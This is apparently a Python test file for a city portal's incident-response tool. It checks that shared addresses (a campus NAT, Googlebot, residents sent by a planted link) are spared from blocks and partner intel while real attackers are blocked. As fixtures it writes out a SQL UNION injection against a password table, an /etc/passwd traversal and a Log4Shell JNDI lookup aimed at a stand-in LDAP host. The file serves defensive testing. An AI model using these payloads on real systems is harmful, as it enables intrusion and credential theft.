"""An address whose block would hurt the city more than the attacker is never blocked, nor
given to partners as an attacker's, whatever else its incident holds.

A university's address on a filing deadline: 141 people log in through it, nine of them
failing three times (login abuse judges it shared: "do not block"), and one student sends
a UNION injection from the same address. The two detections made one incident at 85, whose
first measure was "Rate-limit or block the flagged client addresses" and whose playbook
(contain-web-attack, from 60) blocked the address: every resident behind it locked out of
the portal on the deadline. A stranger's injection in the same incident is still blocked.

Google's crawler, fed planted links (an injection, a traversal, a JNDI lookup), made an
incident at 90 whose block and shared intel took its address: the portal, and the public
alerts on it, dropped from Google's search on an attacker's schedule.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from ipaddress import ip_address
from pathlib import Path

import msgspec
from pydantic import SecretStr
from tests.detect.portal.test_slow_logins import T0, _deadline

from citywatch.app import Analysis, analyse
from citywatch.config import Settings
from citywatch.model import SPARED, Detection, Incident, IncidentStatus
from citywatch.pipeline import InputSpec
from citywatch.respond.actions import Context, block
from citywatch.respond.blocks import block_entries
from citywatch.respond.evidence import spared
from citywatch.respond.misp import misp_event
from citywatch.respond.playbook import load_playbooks
from citywatch.respond.quarantine import QuarantineConfig
from citywatch.respond.stix import export_bundle

UNIVERSITY = "161.53.2.10"
STRANGER = "185.220.101.4"
UA = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
SQLI = "/tax/returns?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"


Line = tuple[float, str, str, str, int, str, str]
"""(seconds after T0, address, method, target, status, Referer, user agent) of one line."""


def _analysed(
    tmp_path: Path, lines: list[Line], learn: Sequence[dict[str, object]] = ()
) -> Analysis:
    """The lines as a combined-format access log, analysed as ``citywatch analyse`` does
    (after learning from ``learn``, full requests as ``http-jsonl`` records, when given)."""
    text = []
    for t, ip, method, target, status, referrer, agent in sorted(lines):
        when = datetime.fromtimestamp(T0 + t, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
        text.append(
            f'{ip} - - [{when}] "{method} {target} HTTP/1.1" {status} 512 "{referrer}" "{agent}"'
        )
    log = tmp_path / "access.log"
    log.write_text("\n".join(text) + "\n")
    settings = Settings(data_dir=tmp_path / "data", pseudonym_key=SecretStr("5a" * 32))
    inputs = [InputSpec.parse(f"access-log:{log}")]
    if learn:
        trusted = tmp_path / "learn.jsonl"
        trusted.write_bytes(b"\n".join(msgspec.json.encode(r) for r in learn) + b"\n")
        inputs.insert(0, InputSpec("http-jsonl", trusted, learn=True))
    return analyse(settings, inputs, None, command="t")


def _context(
    incident: Incident, dets: list[Detection], tmp_path: Path, *, dry_run: bool
) -> Context:
    """What the block action works with, for ``incident``."""
    return Context(
        incident=incident,
        detections=dets,
        params={},
        now=datetime.now(UTC),
        data_dir=tmp_path,
        actor="t",
        dry_run=dry_run,
        quarantine=QuarantineConfig(),
        cap_sender="city@example.org",
    )


def _incident(dets: list[Detection], addresses: list[str]) -> Incident:
    return Incident(
        id="inc",
        title="t",
        status=IncidentStatus.NEW,
        severity=85,
        category="cyber",
        first_seen=dets[0].first_seen,
        last_seen=dets[0].last_seen,
        detections=[d.id for d in dets],
        entities={"source.ip": addresses},
    )


def _university(*, stranger: bool) -> list[Line]:
    """The deadline's logins and one student's injections (and a stranger's)."""
    lines = [(*hit[:5], "-", hit[5]) for hit in _deadline(random.Random(10), forgot=9)]
    lines += [(600 + 30 * k, UNIVERSITY, "GET", f"{SQLI}{k}", 500, "-", UA) for k in range(6)]
    if stranger:
        lines += [(700 + 20 * k, STRANGER, "GET", f"{SQLI}{k}", 500, "-", UA) for k in range(6)]
    return lines


def test_the_university_s_address_is_never_blocked_for_one_student_s_injection(
    tmp_path: Path,
) -> None:
    result = _analysed(tmp_path, _university(stranger=False))
    (incident,) = result.job.correlator.incidents()
    dets = result.job.detections()
    shared = [d for d in dets if d.attributes["portal"].get(SPARED)]
    assert [d.detector for d in shared] == ["login-abuse"]
    (why,) = shared[0].attributes["portal"][SPARED].values()
    assert shared[0].attributes["portal"][SPARED] == {UNIVERSITY: why}
    # an access log shows no accounts: the responder is told what the verdict rests on
    assert why.startswith("many people log in from it, by their user agents")
    assert incident.severity >= 60 and {d.detector for d in dets} == {"login-abuse", "web-attacks"}
    assert incident.measures[0].startswith(
        f"Do not block {UNIVERSITY} ({why}), whatever the measures below say"
    )
    books = [b.id for b in load_playbooks([]) if b.trigger.matches(incident)]
    assert "contain-web-attack" in books, "the SOC still hears of the injection"
    assert block_entries(incident, dets, now=datetime.now(UTC)) == []
    ctx = _context(incident, dets, tmp_path, dry_run=False)
    outcome = block(ctx)
    assert outcome.summary == (
        f"no attacker address nor outside host to block; left out 1 no one should block "
        f"({UNIVERSITY}: {why})"
    )
    assert outcome.files == []
    bundle = export_bundle(incident, dets)
    assert UNIVERSITY not in str(bundle), "nor is it given to partners as an attacker's"
    event = msgspec.json.encode(misp_event(incident, dets)).decode()
    assert UNIVERSITY not in event, "not even in the words of a detection's summary"
    assert "UNION query from [spared address]: 6 requests" in event


def _detection(did: str, ip: str, **portal: object) -> Detection:
    t = datetime.fromtimestamp(T0, tz=UTC)
    return Detection(
        id=did,
        timestamp=t,
        detector="login-abuse" if portal else "web-attacks",
        rule_id="r",
        rule_name="r",
        severity=50 if portal else 85,
        confidence=0.9,
        category="cyber",
        summary="s",
        entity={"source.ip": ip, "target": "portal"},
        evidence=[f"{did}-1"],
        first_seen=t,
        last_seen=t,
        tags=["attack.T1190"],
        attributes={"portal": portal},
    )


def test_a_stranger_in_the_same_incident_is_still_blocked(tmp_path: Path) -> None:
    dets = [
        _detection("logins", UNIVERSITY, **{SPARED: {UNIVERSITY: "many people log in from it"}}),
        _detection("student", UNIVERSITY),
        _detection("stranger", STRANGER),
    ]
    incident = _incident(dets, [UNIVERSITY, STRANGER])
    entries = block_entries(incident, dets, now=datetime.now(UTC), ttl=timedelta(minutes=30))
    assert [e.address for e in entries] == [STRANGER]
    ctx = _context(incident, dets, tmp_path, dry_run=True)
    assert block(ctx).summary == (
        f"would block 1 address ({STRANGER}) for 1:00:00; left out 1 no one should block "
        f"({UNIVERSITY}: many people log in from it)"
    )


GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
CRAWLER = "66.249.71.116"
"""In Google's published Googlebot ranges."""
PLANTED = (
    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/docs?file=..%2F..%2F..%2Fetc%2Fpasswd",
    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2FExploit%7D",
)


def test_a_search_engine_s_crawler_fed_planted_links_is_never_blocked(tmp_path: Path) -> None:
    # its usual fetches, then the planted links, then more usual ones
    lines: list[Line] = [
        (
            60 * k,
            CRAWLER,
            "GET",
            PLANTED[k % 3] if 10 <= k < 16 else f"/news/{k}",
            200,
            "-",
            GOOGLEBOT,
        )
        for k in range(30)
    ]
    result = _analysed(tmp_path, lines)
    (incident,) = result.job.correlator.incidents()
    dets = result.job.detections()
    assert incident.severity >= 60 and CRAWLER in incident.entities["source.ip"]
    now = datetime.now(UTC)
    assert block_entries(incident, dets, now=now) == []
    ctx = _context(incident, dets, tmp_path, dry_run=True)
    assert block(ctx).summary == (
        "no attacker address nor outside host to block; left out 1 no one should block "
        f"({CRAWLER}: Googlebot, a search engine's crawler (by its operator's published ranges))"
    )
    assert CRAWLER not in export_bundle(incident, dets)
    assert incident.measures[0].startswith(f"Do not block {CRAWLER} (Googlebot, a search engine")
    # a forger's address is no crawler's: blocked as any attacker's
    forged = msgspec.structs.replace(incident, entities={"source.ip": ["203.0.113.66"]})
    assert [e.address for e in block_entries(forged, [], now=now)] == ["203.0.113.66"]


JNDI = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2FExploit%7D"
FORUM = "https://forum.example.net/t/the-tax-deadline/981"


def test_residents_sent_to_an_attack_by_a_planted_link_are_never_blocked(
    tmp_path: Path,
) -> None:
    # A forum post embeds the portal's search with a JNDI lookup as an image: 30 residents'
    # browsers each fetch it once within ten minutes. One incident at 100 blocked all 30 and
    # gave partners their addresses as Log4Shell attackers' (analyst review h1). The one who
    # planted it, trying the lookup from his own address six times, is blocked.
    residents = [f"46.188.{k}.{10 + k}" for k in range(30)]
    lines: list[Line] = [
        (20 * k, ip, "GET", JNDI, 200, FORUM, UA) for k, ip in enumerate(residents)
    ]
    lines += [(300 + 10 * k, STRANGER, "GET", f"{JNDI}{k}", 200, "-", UA) for k in range(6)]
    result = _analysed(tmp_path, lines)
    dets = result.job.detections()
    linked = [d for d in dets if d.attributes["portal"].get("referrer")]
    assert {d.entity["source.ip"] for d in linked} == set(residents)
    assert all(d.attributes["portal"]["referrer"] == "forum.example.net" for d in linked)
    assert any(
        "forum.example.net" in m and "taken down" in m
        for m in linked[0].attributes["portal"]["measures"]
    )
    now = datetime.now(UTC)
    blocked = [
        e.address
        for i in result.job.correlator.incidents()
        for e in block_entries(i, dets, now=now)
    ]
    assert blocked == [STRANGER]
    for incident in result.job.correlator.incidents():
        bundle = export_bundle(incident, dets)
        assert not any(ip in bundle for ip in residents)
    (linked_incident,) = [
        i for i in result.job.correlator.incidents() if residents[0] in i.entities["source.ip"]
    ]
    said = block(_context(linked_incident, dets, tmp_path, dry_run=True)).summary
    # the thirty share one reason, said once (it was said thirty times: 2,772 characters)
    assert said.count("a browser sent by a link on forum.example.net") == 1
    assert "and 25 more: a browser sent by a link" in said and len(said) < 400


def test_four_addresses_by_one_link_are_no_crowd_of_browsers(tmp_path: Path) -> None:
    # under LINK_CROWD a link's followers cannot be told from an attacker's few addresses
    result = _analysed(
        tmp_path, [(20 * k, f"46.188.{k}.{10 + k}", "GET", JNDI, 200, FORUM, UA) for k in range(4)]
    )
    dets = result.job.detections()
    now = datetime.now(UTC)
    blocked = {
        e.address
        for i in result.job.correlator.incidents()
        for e in block_entries(i, dets, now=now)
    }
    assert len(blocked) == 4


def test_an_attacker_s_addresses_that_also_attack_are_no_link_s_followers() -> None:
    # Five addresses each send the JNDI lookup once with a made-up Referer (each then a
    # "browser sent by a link"), and fifty injections: blocking them stops the injections
    follow = {"referrer": "forum.example.net", "snippet": JNDI, "requests": 1}
    attackers = [f"203.0.113.{k}" for k in range(1, 6)]
    dets = [_detection(f"l{k}", ip, **follow) for k, ip in enumerate(attackers)]
    dets += [_detection(f"s{k}", ip) for k, ip in enumerate(attackers)]
    incident = _incident(dets, attackers)
    now = datetime.now(UTC)
    assert [e.address for e in block_entries(incident, dets, now=now)] == attackers
    # five that only followed the link are still spared
    assert block_entries(incident, dets[:5], now=now) == []


def test_partners_hear_of_a_link_s_followers_as_the_block_does() -> None:
    # two of the five browsers a forum post's link sent are the city's own office's: no
    # block takes the five, nor may partner intel take the three residents' (MISP counted
    # the followers among the detections it may share only, so three: "no crowd")
    follow = {"referrer": "forum.example.net", "snippet": JNDI, "requests": 1}
    office = ["193.198.4.20", "193.198.4.21"]
    residents = ["46.188.1.11", "46.188.2.12", "46.188.3.13"]
    dets = [_detection(f"l{k}", ip, **follow) for k, ip in enumerate(office + residents)]
    incident = _incident(dets, office + residents)
    own = ["193.198.0.0/16"]
    assert block_entries(incident, dets, now=datetime.now(UTC), allow=own) == []
    assert not any(ip in export_bundle(incident, dets, allow=own) for ip in residents)
    event = msgspec.json.encode(misp_event(incident, dets, allow=own)).decode()
    assert not any(ip in event for ip in residents)


def _students(n: int) -> list[dict[str, object]]:
    """Last week's busy hour behind the campus NAT, as full requests: ``n`` students, each
    with a session of their own, three pages each, from four browsers' reduced agents; and a
    stranger's one visit (one session)."""
    agents = [UA, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/125.0.0.0 Safari/537.36"]
    records: list[dict[str, object]] = []
    for student in range(n):
        for page in range(3):
            agent = agents[student % 2]
            records.append(
                {
                    "id": f"l-{student}-{page}",
                    "@timestamp": T0 - 7 * 86400 + 50 * student + 5 * page,
                    "source.ip": UNIVERSITY,
                    "method": "GET",
                    "uri": f"/tax/returns?id={1000 + student}",
                    "headers": [["User-Agent", agent], ["Cookie", f"aldsid=s{student:04d}k"]],
                    "http.response.status_code": 200,
                }
            )
    for page in range(3):
        records.append(
            {
                "id": f"l-stranger-{page}",
                "@timestamp": T0 - 7 * 86400 + 10 * page,
                "source.ip": STRANGER,
                "method": "GET",
                "uri": "/tax/returns?id=7",
                "headers": [["User-Agent", UA], ["Cookie", "aldsid=one-session"]],
                "http.response.status_code": 200,
            }
        )
    return records


def test_a_campus_nat_learned_from_trusted_traffic_is_never_blocked(tmp_path: Path) -> None:
    # Last week's traffic showed 60 students' sessions behind the university's address in
    # one hour. Today one of them sends six UNION injections, with no login or flood beside
    # them to say the address is shared: the playbook blocked the campus. A stranger, one
    # session in the learning traffic, sends the same and is blocked.
    attacks = _university(stranger=True)[-12:]  # the injections only, no logins
    result = _analysed(tmp_path, attacks, learn=_students(60))
    dets = result.job.detections()
    assert {d.detector for d in dets} >= {"web-attacks"}
    assert not any(d.detector == "login-abuse" for d in dets)
    why = (
        "60 sessions from it within an hour of the learning traffic: many people share it "
        "(a campus or a carrier NAT); block the account or session instead"
    )
    for d in dets:
        declared = d.attributes["portal"].get(SPARED)
        assert declared == ({UNIVERSITY: why} if d.entity["source.ip"] == UNIVERSITY else None)
    now = datetime.now(UTC)
    incidents = result.job.correlator.incidents()
    blocked = [e.address for i in incidents for e in block_entries(i, dets, now=now)]
    assert blocked == [STRANGER]
    (campus,) = [i for i in incidents if UNIVERSITY in i.entities["source.ip"]]
    assert spared(campus, dets)[ip_address(UNIVERSITY)] == why
    assert f"({UNIVERSITY}: {why})" in block(_context(campus, dets, tmp_path, dry_run=True)).summary
    for incident in incidents:
        assert UNIVERSITY not in export_bundle(incident, dets)
